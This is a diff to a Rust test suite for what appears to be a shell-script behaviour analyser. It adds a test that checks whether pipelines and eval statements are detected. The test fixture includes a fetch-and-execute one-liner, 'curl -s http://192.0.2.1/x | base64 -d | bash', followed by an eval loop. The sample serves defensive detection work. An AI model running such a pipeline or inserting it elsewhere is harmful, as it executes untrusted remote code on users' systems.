@@ -1,6 +1,8 @@
 //! Descriptors: redirections, pipelines, here-documents, substitutions, named pipes, sockets.
 
-use super::{check, check_prints};
+use model::Behavior;
+
+use super::*;
 
 #[test]
 fn shells_over_sockets() {
@@ -266,4 +268,22 @@ fn what_is_printed_is_what_goes_to_standard_output() {
         ("echo a | { read x; echo \"<$x>\"; }", "<a>\n"),
         ("echo 'a b' | while read x y; do echo $y$x; done", "ba\n"),
     ]);
+}
+
+#[test]
+fn a_pipeline_is_shown_whole() {
+    let script = "true\ncurl -s http://192.0.2.1/x |\n  base64 -d | bash && cat y | while read l; do eval \"$l\"; done\n";
+    let acts = lowered(script).acts;
+    let shown = |wanted: fn(&Behavior) -> bool| {
+        let mut acts = acts.iter().filter(|act| wanted(&act.behavior));
+        acts.next().map(|act| (act.line, act.evidence.as_str()))
+    };
+    let is_code = |behavior: &Behavior| matches!(behavior, Behavior::Evaluate { code, .. } if code.fetched_from().is_some());
+    assert_eq!(
+        shown(is_code),
+        Some((3, "curl -s http://192.0.2.1/x |\n  base64 -d | bash"))
+    );
+    // What a compound command does, its own statements show.
+    let is_line = |behavior: &Behavior| matches!(behavior, Behavior::Evaluate { code, .. } if code.fetched_from().is_none());
+    assert_eq!(shown(is_line), Some((3, "eval \"$l\"")));
 }
